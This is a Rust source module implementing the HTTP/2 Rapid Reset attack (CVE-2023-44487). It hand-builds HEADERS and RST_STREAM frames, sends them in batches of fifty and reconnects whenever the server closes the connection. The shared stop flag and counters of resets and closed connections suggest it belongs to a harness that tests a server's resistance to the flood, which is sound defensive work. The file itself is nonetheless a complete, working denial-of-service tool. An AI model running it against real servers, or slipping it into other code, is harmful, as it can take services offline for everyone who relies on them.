//! An HTTP/2 client that opens streams only to reset them (CVE-2023-44487).

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::place::HOST;
use super::visitors::{Duplex, Enough, Entrance};

/// In one write.
const AT_ONCE: u32 = 50;
/// Before an attacker opens its next connection.
const PAUSE: Duration = Duration::from_millis(20);

#[derive(Default)]
pub(super) struct Sent {
    pub(super) resets: AtomicUsize,
    pub(super) away: AtomicUsize,
}

/// Opens and resets streams until `enough` is set. Reconnects whenever the server closes the
/// connection.
pub(super) async fn reset(entrance: Entrance, sent: Arc<Sent>, enough: Arc<Enough>) {
    while !enough.is_it() {
        if let Ok(mut stream) = entrance.open().await {
            // The server is expected to close the connection.
            let _ = until_sent_away(&mut *stream, &sent, &enough).await;
            sent.away.fetch_add(1, Ordering::Relaxed);
        }
        tokio::time::sleep(PAUSE).await;
    }
}

async fn until_sent_away(stream: &mut dyn Duplex, sent: &Sent, enough: &Enough) -> Result<()> {
    const SETTINGS: u8 = 4;
    const HEADERS: u8 = 1;
    const RST_STREAM: u8 = 3;
    const END_OF_BOTH: u8 = 0x5;
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    // GET, https and / are in the static table (RFC 7541, appendix A); the host is a literal.
    let mut head = vec![0x82, 0x87, 0x84, 0x01, u8::try_from(HOST.len())?];
    head.extend_from_slice(HOST.as_bytes());
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let mut number = 1;
    let mut heard = vec![0; 16 << 10];
    while !enough.is_it() {
        let mut bytes = Vec::new();
        for _ in 0..AT_ONCE {
            bytes.extend(frame(HEADERS, END_OF_BOTH, number, &head));
            bytes.extend(frame(RST_STREAM, 0, number, &CANCEL));
            number += 2;
        }
        stream.write_all(&bytes).await?;
        stream.flush().await?;
        sent.resets.fetch_add(AT_ONCE as usize, Ordering::Relaxed);
        // The received bytes do not matter, only whether the server closed the connection.
        let read = tokio::time::timeout(Duration::from_millis(1), stream.read(&mut heard));
        if let Ok(Ok(0) | Err(_)) = read.await {
            break;
        }
    }
    Ok(())
}

/// Makes a frame (RFC 9113, section 4.1).
pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}
